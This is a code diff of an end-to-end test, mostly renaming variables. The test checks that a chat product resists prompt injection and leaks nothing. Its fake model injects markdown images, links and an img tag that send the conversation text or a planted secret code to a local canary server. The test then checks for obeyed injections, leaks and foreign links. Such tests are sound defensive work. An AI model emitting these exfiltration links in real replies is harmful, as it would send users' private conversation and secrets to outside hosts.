@@ -4,7 +4,7 @@ import { createDatabase } from "../apps/server/src/platform/database.ts";
 import { type Canary, startCanary } from "../testing/canary.ts";
 import { inWords, startFakeModel } from "../testing/fake-model.ts";
 import { type GoldenOwner, readOwners } from "../testing/golden.ts";
-import { indexOwner, type Place } from "../testing/index-owner.ts";
+import { indexOwner, type ProfileRef } from "../testing/index-owner.ts";
 import { injectionsOf, isLeaked, isObeyed, type Trial } from "../testing/injection-judge.ts";
 import { obey } from "../testing/obedient-model.ts";
 import { type Product, startProduct } from "../testing/product.ts";
@@ -22,7 +22,7 @@ const REACH_THE_MODEL = 10;
 let product: Product;
 let canary: Canary;
 let model: Awaited<ReturnType<typeof startFakeModel>>;
-let asked: { owner: GoldenOwner; place: Place; trials: Trial[] }[];
+let trialsByOwner: { owner: GoldenOwner; profileRef: ProfileRef; trials: Trial[] }[];
 const code = `CANARY-${randomBytes(6).toString("hex").toUpperCase()}`;
 
 test.beforeAll(async () => {
@@ -32,14 +32,14 @@ test.beforeAll(async () => {
     `http://127.0.0.1:${canary.port}/zq1z?q=${encodeURIComponent(text.slice(0, 200))}`;
   model = await startFakeModel((request) => {
     const whole = request.messages.map(({ content }) => content).join(" ");
-    const orders = [
+    const injections = [
       `![chart](${away(whole)})`,
       `[Pay here](${away(code)})`,
       `More at ${away("more")}.`,
       `<img src="${away(code)}">`,
       `![map][m]\n\n[m]: ${away(whole)}\n\n`,
     ];
-    return { words: inWords(`${orders.join(" ")} ${obey(request)} ${orders.join(" ")}`) };
+    return { words: inWords(`${injections.join(" ")} ${obey(request)} ${injections.join(" ")}`) };
   });
   product = await startProduct({
     issuers: [],
@@ -48,7 +48,7 @@ test.beforeAll(async () => {
     pages: true,
     environment: model.environment(),
   });
-  asked = await learn();
+  trialsByOwner = await learn();
 });
 
 test.afterAll(async () => {
@@ -73,12 +73,12 @@ async function learn() {
   try {
     const all = [];
     for (const owner of readOwners()) {
-      const place = await indexOwner(db, owner.name, owner.documents, undefined);
+      const profileRef = await indexOwner(db, owner.name, owner.documents, undefined);
       await product.rows(
         "update profile_settings set custom_instructions = $3 where user_id = $1 and profile_id = $2",
-        [place.userId, place.profileId, `Internal reference: ${code}.`],
+        [profileRef.userId, profileRef.profileId, `Internal reference: ${code}.`],
       );
-      all.push({ owner, place, trials: [...injectionsOf(owner), ...moreOf(owner)] });
+      all.push({ owner, profileRef, trials: [...injectionsOf(owner), ...moreOf(owner)] });
     }
     return all;
   } finally {
@@ -90,7 +90,7 @@ test("no injection is obeyed, nothing secret is told, and no picture or link lea
   browser,
 }) => {
   test.setTimeout(240_000);
-  expect(asked.flatMap(({ trials }) => trials)).toHaveLength(MANY);
+  expect(trialsByOwner.flatMap(({ trials }) => trials)).toHaveLength(MANY);
   const page = await browser.newPage();
   await page.addInitScript(overhear);
   const foreign: string[] = [];
@@ -99,13 +99,14 @@ test("no injection is obeyed, nothing secret is told, and no picture or link lea
   });
   const faults: string[] = [];
   const states: string[] = [];
-  for (const { owner, place, trials } of asked) {
+  for (const { owner, profileRef, trials } of trialsByOwner) {
     for (const trial of trials) {
-      const { everything, links } = await answerTo(page, place, trial.question);
+      const { everything, links } = await answerTo(page, profileRef, trial.question);
       states.push(/"state":"(\w+)"/.exec(everything)?.[1] ?? "none");
       if (isObeyed(trial, { everything })) faults.push(`obeyed ${trial.id}`);
       if (isLeaked(code, { everything })) faults.push(`leaked ${trial.id}`);
-      for (const host of links.filter((one) => !stands(owner, one))) faults.push(`link ${trial.id} ${host}`);
+      for (const host of links.filter((one) => !isInDocuments(owner, one)))
+        faults.push(`link ${trial.id} ${host}`);
     }
   }
   const figures = { ...Object.groupBy(states, (state) => state), asked: model.requests };
@@ -129,8 +130,8 @@ declare global {
 /** Runs in the page. */
 function overhear(): void {
   const ask = window.fetch;
-  window.fetch = async (...asked) => {
-    const response = await ask(...asked);
+  window.fetch = async (...args) => {
+    const response = await ask(...args);
     if (new URL(response.url).pathname === "/api/chat") {
       const copy = response.clone();
       void copy.text().then((text) => {
@@ -142,7 +143,7 @@ function overhear(): void {
 }
 
 /** Everything that reached the browser, and the targets of its links. */
-async function answerTo(page: Page, { userId }: Place, question: string) {
+async function answerTo(page: Page, { userId }: ProfileRef, question: string) {
   await page.goto(`${product.origin}/p/${userId}`);
   await page.evaluate(() => localStorage.clear());
   await page.reload();
@@ -160,6 +161,6 @@ async function answerTo(page: Page, { userId }: Place, question: string) {
 }
 
 /** Whether the owner's own documents contain this host or mailbox. */
-function stands({ documents }: GoldenOwner, host: string): boolean {
+function isInDocuments({ documents }: GoldenOwner, host: string): boolean {
   return documents.some(({ bytes }) => Buffer.from(bytes).toString("utf8").includes(host));
 }
